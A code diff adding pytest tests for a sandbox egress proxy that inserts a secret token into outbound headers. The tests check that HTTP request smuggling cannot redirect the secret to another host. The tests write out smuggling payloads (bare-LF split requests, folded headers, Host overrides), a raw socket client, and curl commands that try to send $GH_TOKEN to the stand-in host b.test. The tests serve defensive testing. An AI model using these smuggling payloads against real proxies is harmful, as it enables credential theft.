@@ -307,3 +307,99 @@ def test_ca_key_is_unreachable_inside(srv, net):
     r = run(srv, sid, "grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/execbox-egress-ca.pem; "
                       "tail -c 2000 /etc/ssl/certs/ca-certificates.crt | grep -c 'END CERTIFICATE'")
     assert r["stdout"].split()[0] == "1", r
+
+
+# ---- attacks on the head rewrite: a secret for a.test sent to another Host ----
+
+# A raw client inside: the request in a file (@PH@ is the placeholder),
+# sent through the proxy as it is (forward), or inside a CONNECT tunnel's
+# TLS (tls, trusting the sandbox's bundle, which holds the egress CA).
+RAW_CLIENT = r"""
+import os, socket, ssl, sys
+mode, host, path = sys.argv[1:4]
+req = open(path, "rb").read().replace(b"@PH@", os.environ["GH_TOKEN"].encode())
+s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+if mode == "tls":
+    s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        b = s.recv(1)
+        if not b:
+            break
+        head += b
+    if b" 200 " not in head.split(b"\r\n")[0]:
+        sys.stdout.write(head.decode(errors="replace"))
+        sys.exit(0)
+    s = ssl.create_default_context().wrap_socket(s, server_hostname=host)
+s.sendall(req)
+out = b""
+while True:
+    try:
+        b = s.recv(65536)
+    except (OSError, ssl.SSLError):
+        break
+    if not b:
+        break
+    out += b
+sys.stdout.write(out.decode(errors="replace"))
+print("RAWDONE")
+"""
+
+
+def refused(mode, out):
+    """The forward proxy answers 400; inside a terminated TLS the relay
+    closes the tunnel without sending anything up or back."""
+    return out.startswith("HTTP/1.1 400") if mode == "forward" else out.strip() == "RAWDONE"
+
+
+def raw(srv, sid, mode, req: bytes, host="a.test"):
+    put_file(srv, sid, "/tmp/raw.py", RAW_CLIENT)
+    r = srv.request("PUT", f"/v1/sandboxes/{sid}/files", params={"path": "/tmp/req"}, data=req)
+    assert r.status_code in (200, 201, 204), r.text
+    out = run(srv, sid, f"python3 /tmp/raw.py {mode} {host} /tmp/req")["stdout"]
+    assert "RAWDONE" in out, out   # the attack ran to its end
+    return out
+
+
+@pytest.mark.parametrize("mode", ["forward", "tls"])
+def test_bare_lf_cannot_smuggle_a_second_request_with_the_secret(srv, net, mode):
+    """A header line holding bare LFs is one line to a proxy that splits on
+    CRLF, but two requests to an upstream that ends lines at LF (as the
+    fake server, nginx and most others do): the second, with a Host of the
+    client's choosing, would carry the value the proxy swapped in and the
+    header it added before the (now second) blank line."""
+    put_secret(srv)
+    sid = sandbox(srv)
+    target = "http://a.test/headers" if mode == "forward" else "/headers"
+    # Positive control: the same client, a clean head, gets the value to a.test.
+    out = raw(srv, sid, mode, f"GET {target} HTTP/1.1\r\nHost: a.test\r\nX-Key: @PH@\r\n\r\n".encode())
+    assert f"X-Key: {VALUE}" in out and "Host: a.test" in out, out
+    # The attack.
+    out = raw(srv, sid, mode, f"GET {target} HTTP/1.1\r\nHost: a.test\r\nX-A: 1\n\nGET /headers?smuggled "
+                              "HTTP/1.1\nHost: b.test\nX-Key: @PH@\r\n\r\n".encode())
+    assert "?smuggled" not in out and VALUE not in out, out
+    assert refused(mode, out), out
+    # Folded (obs-fold) lines and a space before the colon are refused too
+    # (RFC 9112 5.1, 5.2): either could carry a second Host past the rewrite.
+    for bad in ("X-A: 1\r\n Host: b.test", "Host : b.test", "X-A: 1\rHost: b.test"):
+        out = raw(srv, sid, mode, f"GET {target} HTTP/1.1\r\nHost: a.test\r\n{bad}\r\nX-Key: @PH@\r\n\r\n".encode())
+        assert refused(mode, out) and VALUE not in out, (bad, out)
+    srv.remove(sid)
+
+
+def test_https_host_header_cannot_send_the_secret_to_another_host(srv, net):
+    """Over the terminated TLS of a secret's host, the Host (or an
+    absolute-form target) names which site of a shared front end gets the
+    request: it is the CONNECT's, the name the secret was decided for."""
+    put_secret(srv)
+    sid = sandbox(srv)
+    # Positive control: the secret's host gets the value.
+    out = run(srv, sid, 'curl -sS -m 10 -H "X-Key: $GH_TOKEN" https://a.test/headers')["stdout"]
+    assert f"X-Key: {VALUE}" in out and "Host: a.test" in out, out
+    # A Host of another site: the upstream sees a.test's.
+    out = run(srv, sid, 'curl -sS -m 10 -H "Host: b.test" -H "X-Key: $GH_TOKEN" https://a.test/headers')["stdout"]
+    assert "Host: b.test" not in out and "Host: a.test" in out, out
+    # An absolute-form target naming another site is refused.
+    out = raw(srv, sid, "tls", b"GET http://b.test/headers HTTP/1.1\r\nHost: a.test\r\nX-Key: @PH@\r\n\r\n")
+    assert refused("tls", out) and VALUE not in out and "b.test" not in out, out
+    srv.remove(sid)
